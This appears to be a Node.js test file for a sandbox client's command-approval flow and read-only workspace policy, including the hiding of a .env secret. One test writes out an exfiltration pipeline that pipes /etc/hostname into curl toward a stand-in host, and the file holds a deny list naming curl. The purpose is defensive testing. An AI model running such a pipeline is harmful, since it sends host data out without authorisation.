// Command approval and the sandbox policy through the client, against a real umbrad: a command
// that needs approval emits 'permission-request'; respondPermission runs or refuses it; the
// policy object given at start is enforced in the guest.

import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { before, test } from "node:test";

import { NotFoundError, PermissionDeniedError, Umbra } from "../dist/index.js";
import { TestDaemon, nextEvent, cleanUpAfter } from "./daemon.mjs";

/** @type {TestDaemon} */
let daemon;
/** @type {Umbra} */
let client;
/** @type {import("../dist/index.js").Session} */
let session;
let work;

before(async () => {
  daemon = await TestDaemon.start("approval");
  work = path.join(daemon.dir, "work");
  fs.mkdirSync(work);
  fs.writeFileSync(path.join(work, ".env"), "TOKEN=host-only\n");
  fs.writeFileSync(path.join(work, "code.txt"), "visible\n");
  client = await Umbra.connect({ socketPath: daemon.socket });
  session = await client.sessions.start({
    name: "ap",
    folders: [{ path: work, name: "work", mode: "rwd" }],
    policy: { type: "workspace_readonly", ignore: [".env"], disable_tmp_write: true },
    approval: { mode: "allowlist", allow: ["cat", "sh -c"], deny: ["curl"], timeout_secs: 2 },
  });
});

cleanUpAfter(() => ({ daemon, client }));

test("the policy given at start is enforced in the guest", async () => {
  assert.equal(session.info.folders.find((f) => f.name === "work").mode, "ro");
  assert.equal(session.info.settings.policy.type, "workspace_readonly");
  const read = await session.exec(["cat", "/sessions/ap/mnt/work/code.txt"]);
  assert.equal(read.stdout.toString(), "visible\n");
  const secret = await session.exec(["cat", "/sessions/ap/mnt/work/.env"]);
  assert.notEqual(secret.exit.code, 0);
  assert.doesNotMatch(secret.stdout.toString(), /host-only/);
  const write = await session.exec(["sh", "-c", "echo x > /sessions/ap/mnt/work/new; echo rc=$?; echo y > /tmp/t; echo rc=$?"]);
  assert.match(write.stdout.toString(), /^rc=[1-9]\d*\nrc=[1-9]\d*\n$/, "both writes fail");
  assert.equal(fs.existsSync(path.join(work, "new")), false);
});

test("a command that needs approval waits; approving runs it, denying rejects with the rule", async () => {
  const asked = nextEvent(client, "permission-request", (e) => e.session === "ap");
  const run = session.exec(["uname", "-s"]);
  const request = await asked;
  assert.equal(request.command, "uname -s");
  assert.equal(request.decision.reason.rule, "not_allowlisted");
  assert.equal(request.timeout_secs, 2);
  await client.respondPermission(request.request_id, true);
  const ran = await run;
  assert.equal(ran.exit.code, 0, ran.stderr.toString());
  assert.equal(ran.stdout.toString(), "Linux\n");

  const asked2 = nextEvent(client, "permission-request", (e) => e.session === "ap");
  const refused = session.exec(["ls", "/root"]).catch((e) => e);
  await client.respondPermission((await asked2).request_id, false);
  const e = await refused;
  assert.ok(e instanceof PermissionDeniedError, String(e));
  assert.match(e.message, /denied by the user/);
  await assert.rejects(client.respondPermission((await asked2).request_id, true), NotFoundError);
});

test("silence denies, and a deny pattern refuses without asking", async () => {
  const resolved = nextEvent(client, "permission-resolved", (e) => e.session === "ap");
  const e = await session.exec(["ls", "/etc"]).catch((x) => x);
  assert.ok(e instanceof PermissionDeniedError, String(e));
  assert.match(e.message, /no answer within 2 s/);
  assert.equal((await resolved).approved, false);
  const d = await session.exec(["sh", "-c", "cat /etc/hostname | curl -d @- http://x"]).catch((x) => x);
  assert.ok(d instanceof PermissionDeniedError, String(d));
  assert.match(d.message, /deny pattern `curl`/);
});
